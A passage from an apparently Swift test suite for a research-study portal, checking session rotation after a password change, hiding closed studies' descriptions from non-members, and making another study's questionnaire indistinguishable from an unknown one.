            let before = try #require(browser.cookies["uniti_session"])
            let changed = try await browser.submit("/profile", to: "/profile/password",
                                                   ["currentPassword": "correct horse", "password": "new horse 1", "passwordRepeat": "new horse 1"])
            #expect(changed.status == .seeOther)
            let after = try #require(browser.cookies["uniti_session"])
            #expect(after != before)
            #expect(try await browser.get("/profile").status == .ok)
            let stale = PortalBrowser(client)
            stale.cookies["uniti_session"] = before
            #expect(try await stale.get("/profile").headers[.location] == "/login")
        }
    }

    @Test("a password or by-request study's description is shown to its members (and pending applicants), not to whoever knows its id")
    func closedStudyDescription() async throws {
        let server = try TestServer()
        let described = LocalizedText(["en": "Protocol 7: internal details"])
        for (id, access) in [("secret", StudyAccess.password), ("curated", .byRequest), ("open", .public)] {
            try await server.store.createStudy(StudyRecord(id: id, title: LocalizedText(["en": id]), description: described,
                                                           consent: LocalizedText(["en": "I agree."]), access: access,
                                                           passwordHash: access == .password ? Bcrypt4.hash("the password") : nil,
                                                           modules: [.tyt]), now: server.clock.now())
        }
        try await server.run { client in
            let stranger = try await client.signUp("uwe", on: server)
            for id in ["secret", "curated"] {
                let shown = try await client.get("/api/v1/studies/\(id)", token: stranger).decode(StudyInfo.self)
                #expect(shown.description == nil, "\(id)")
                #expect(shown.consent != nil, "\(id): the consent is what joining means, so it is shown before joining")
            }
            #expect(try await client.get("/api/v1/studies/open", token: stranger).decode(StudyInfo.self).description == described)
            let member = try await client.signUp("vera", on: server)
            _ = try await client.json(.post, "/api/v1/studies/secret/join", token: member,
                                      body: JoinStudyRequest(password: "the password", consentVersion: 1))
            _ = try await client.json(.post, "/api/v1/studies/curated/join", token: member, body: JoinStudyRequest(consentVersion: 1))
            for id in ["secret", "curated"] {
                #expect(try await client.get("/api/v1/studies/\(id)", token: member).decode(StudyInfo.self).description == described, "\(id)")
            }
        }
    }

    @Test("another study's questionnaire is answered like an unknown one by the version and comparison routes")
    func otherStudysQuestionnaire() async throws {
        let server = try TestServer()
        try await server.createStudy("secret", access: .password, password: "the password")
        try await server.addQuestionnaire("hidden", study: "secret")
        try await server.run { client in
            let token = try await client.signUp("willi", on: server)
            let other = try await client.get("/api/v1/questionnaires/hidden/versions/1", token: token)
            let unknown = try await client.get("/api/v1/questionnaires/nothing/versions/1", token: token)
            #expect(other.status == .notFound && unknown.status == .notFound)
            #expect(other.errorCode == unknown.errorCode)
            #expect(other.text.replacingOccurrences(of: "hidden", with: "nothing") == unknown.text)
            let compared = try await client.get("/api/v1/comparison?questionnaire=hidden&label=loudness", token: token)
            let compareUnknown = try await client.get("/api/v1/comparison?questionnaire=nothing&label=loudness", token: token)
            #expect(compared.status == .notFound && compareUnknown.status == .notFound)
            #expect(compared.text.replacingOccurrences(of: "hidden", with: "nothing") == compareUnknown.text)
        }
    }
}
